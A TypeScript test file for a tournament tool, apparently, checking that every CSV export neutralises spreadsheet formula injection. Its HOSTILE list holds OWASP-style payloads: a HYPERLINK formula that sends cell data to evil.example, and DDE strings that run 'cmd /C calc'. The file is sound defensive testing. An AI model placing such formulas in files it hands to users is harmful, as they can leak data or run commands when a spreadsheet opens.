/**
 * CSV injection (OWASP "CSV Injection", D42): every CSV the project writes — `convert --to
 * csv` (writeCsv), `rate --csv`, `standings --csv`, `mahjong-list --csv` — writes a text cell
 * that a spreadsheet would run as a formula with a leading `'`, and numbers as numbers.
 */
import fc from "fast-check";
import Papa from "papaparse";
import type { Tournament } from "../../src/core/tournament/model";
import { readCsv } from "../../src/formats/csv";
import { writeCsv } from "../../src/formats/csv-writer";
import { csvCell, excelCsv } from "../../src/formats/csv-form";
import { neutralise, unneutralise } from "../../src/formats/csv-safe";

/** A cell as Hungarian Excel's CSV writes it (D195: `;`, the decimal comma). */
const csvField = (value: string | number): string => csvCell(value, excelCsv("hu"));
import { run } from "../cli/fake-io";
import { tournamentArb } from "../core/tournament/arbitrary";

/** OWASP's examples and the other trigger characters. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Error: click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3+cmd|' /C calc'!A0",
  "\tTab",
  "\rReturn",
];

const cells = (csv: string): string[][] =>
  Papa.parse<string[]>(csv, { delimiter: ";", skipEmptyLines: true }).data;

/** A hostile cell as written: neutralised, so it begins with the `'`. */
const safe = (c: string): boolean => !/^[=+\-@\t\r]/.test(c) || /^[+-]?\d+([.,]\d+)?$/.test(c);

describe("the helper (D42)", () => {
  it.each(HOSTILE)("%j gets a leading ' and reads back unchanged", (s) => {
    expect(neutralise(s)).toBe(`'${s}`);
    expect(unneutralise(neutralise(s))).toBe(s);
  });
  it("numbers, numeric text and plain names stay as they are", () => {
    expect(csvField(-16)).toBe("-16");
    expect(csvField("-0.16")).toBe("-0.16");
    expect(csvField("+0.52")).toBe("+0.52");
    expect(csvField("Kovács Péter")).toBe("Kovács Péter");
    expect(csvField("O'Brien")).toBe("O'Brien");
    expect(unneutralise("'quoted")).toBe("'quoted");
  });
  it("quotes what needs it after neutralising", () => {
    expect(csvField('=A1;"x"')).toBe(`"'=A1;""x"""`);
  });
});

/** A two-player tournament, one game, with hostile texts in every text field. */
function hostileTournament(name: string): Tournament {
  const t = {
    format: "csv",
    name,
    location: name,
    rounds: 1,
    players: [
      {
        name,
        firstName: name,
        club: name,
        federation: name,
        rank: "3d",
        results: [{ kind: "game", opponent: 1, score: 2, colour: "white", handicap: 0 }],
      },
      {
        name: `${name}2`,
        rank: "1d",
        results: [{ kind: "game", opponent: 0, score: 0, colour: "black", handicap: 0 }],
      },
    ],
  };
  return t as unknown as Tournament;
}

describe("every writer neutralises", () => {
  it.each(HOSTILE)("writeCsv (convert --to csv) with %j: safe cells, and read back the same", (s) => {
    const csv = writeCsv(hostileTournament(s));
    expect(
      cells(csv)
        .flat()
        .filter((c) => !safe(c)),
    ).toEqual([]);
    const back = readCsv(csv).tournament;
    if (!/^[\t\r]/.test(s)) {
      // the reader trims cells, so a leading tab or CR does not survive (nor did it before)
      expect(back.players[0]?.name).toBe(s);
      expect(back.players[0]?.club).toBe(s);
      expect(back.name).toBe(s);
    }
  });

  it("rate --csv, standings --csv and mahjong-list --csv: names neutralised, numbers kept", async () => {
    const crosstable = `No;Name;Rank;R1\n1;${HOSTILE[1]};3d;2+/w0\n2;@SUM(1);1d;1-/b0\n`;
    const results = `Player;Tournament;Last day;Place;Participants;Sessions\n=1+1;Cup;2026-01-10;1;2;4\n-x;Cup;2026-01-10;2;2;4\n`;
    const files = { "t.csv": crosstable, "r.csv": results };
    const outputs = [
      await run(["rate", "t.csv", "--system", "mgsz", "--multiplier", "30", "--csv"], files),
      await run(["standings", "t.csv", "--csv"], files),
      await run(["mahjong-list", "r.csv", "--release", "2026-12-01", "--csv"], files),
    ];
    for (const r of outputs) {
      expect(r.code).toBe(0);
      const rows = cells(r.stdout);
      expect(rows.length).toBeGreaterThan(2);
      expect(rows.flat().filter((c) => !safe(c))).toEqual([]);
    }
    expect(outputs[0]?.stdout).toContain(`'${HOSTILE[1] ?? ""}`);
    expect(outputs[1]?.stdout).toContain("'@SUM(1)");
    expect(outputs[2]?.stdout).toContain("'=1+1");
    expect(outputs[2]?.stdout).toContain("'-x");
  });
});

describe("write ∘ read with hostile names is the identity (property)", () => {
  it("names and clubs that begin like formulas survive the CSV crosstable", () => {
    const start = fc.constantFrom("=", "+", "-", "@", "'", "");
    fc.assert(
      fc.property(
        tournamentArb({ loose: false }),
        fc.array(start, { minLength: 12, maxLength: 12 }),
        (t, starts) => {
          const players = t.players.map((p, i) => ({ ...p, name: `${starts[i] ?? ""}${p.name}` }));
          const hostile = { ...t, players };
          const back = readCsv(writeCsv(hostile)).tournament;
          expect(back.players.map((p) => p.name)).toEqual(players.map((p) => p.name));
          expect(back.players.map((p) => p.results)).toEqual(players.map((p) => p.results));
        },
      ),
      { numRuns: 100 },
    );
  });
});
